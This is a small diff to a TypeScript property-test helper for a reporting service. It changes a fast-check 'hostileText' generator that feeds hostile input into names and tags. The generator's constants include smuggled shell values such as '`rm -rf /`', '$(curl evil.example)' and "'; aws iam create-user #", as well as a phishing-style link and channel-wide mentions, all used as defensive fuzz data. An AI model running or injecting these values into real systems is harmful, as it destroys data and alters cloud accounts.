@@ -5,6 +5,7 @@ import type { Counts, SessionRecord } from '../../lambda/contract/report.js';
 import { countsBy } from '../../lambda/reporting/counts.js';
 import type { DigestContext } from '../../lambda/reporting/digest.js';
 import type { Undigested } from '../../lambda/reporting/what-happened.js';
+import { anyText } from './any-text.js';
 
 export function reportWith(given: Partial<Counts>, members: Partial<Undigested> = {}): Undigested {
   return {
@@ -58,7 +59,7 @@ export function contextFor(
 
 /** What a person who means harm, or who does not know better, puts into a name or a tag. */
 export const hostileText = fc.oneof(
-  fc.string({ unit: 'binary', maxLength: 400 }),
+  anyText({ maxLength: 400 }),
   fc.constantFrom('"\\\u2028\u202e\n', '<!channel>', '@here', '[click](https://evil.example)', '`rm -rf /`'),
   fc.constantFrom("'; aws iam create-user #", '$(curl evil.example)', '<aws.events.event>', '*bold*~no~|'),
 );
